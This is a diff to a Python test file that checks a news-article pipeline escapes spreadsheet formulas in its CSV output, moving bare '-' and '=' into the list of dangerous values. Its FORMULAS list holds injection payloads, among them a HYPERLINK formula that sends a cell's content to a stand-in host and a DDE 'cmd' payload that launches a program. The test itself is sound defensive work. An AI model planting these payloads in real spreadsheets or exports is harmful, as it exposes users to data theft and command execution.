@@ -26,8 +26,8 @@ from netralitas.pipeline import TablesError
 from netralitas.reader import article_page
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "+62 812", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
-            "＝1+1", "＋1", "－1", "＠a", "'=1+1", "''-2"]
-PLAIN = ["netral", "", "-", "=", "a=1", "'netral'", "“Kami", "1-2", "(+)", "–5"]
+            "＝1+1", "＋1", "－1", "＠a", "'=1+1", "''-2", "-", "="]
+PLAIN = ["netral", "", "a=1", "'netral'", "“Kami", "1-2", "(+)", "–5"]
 TEXT = "Bawaslu mengimbau ASN netral pada Rabu, 31 Juli 2024, kata Wayan Rukmini di kantor itu.\n"
 
 
@@ -198,7 +198,7 @@ def test_no_csv_file_holds_a_formula_and_parquet_holds_the_text(tmp_path):
     for path in tmp_path.glob("*.csv"):
         with path.open(encoding="utf-8", newline="") as file:
             cells = [cell for row in csv.reader(file) for cell in row]
-        assert not [c for c in cells if c[:1] in "=+-@\t\r\n" and c not in ("", *"=+-@") and not c[1:].isdigit()], path.name
+        assert not [c for c in cells if c[:1] in "=+-@\t\r\n" and c and not c[1:].isdigit()], path.name
     [row] = pd.read_csv(tmp_path / "articles.csv").itertuples()
     assert plain_cell(row.text) == text and plain_cell(row.outlet) == "@x"
 
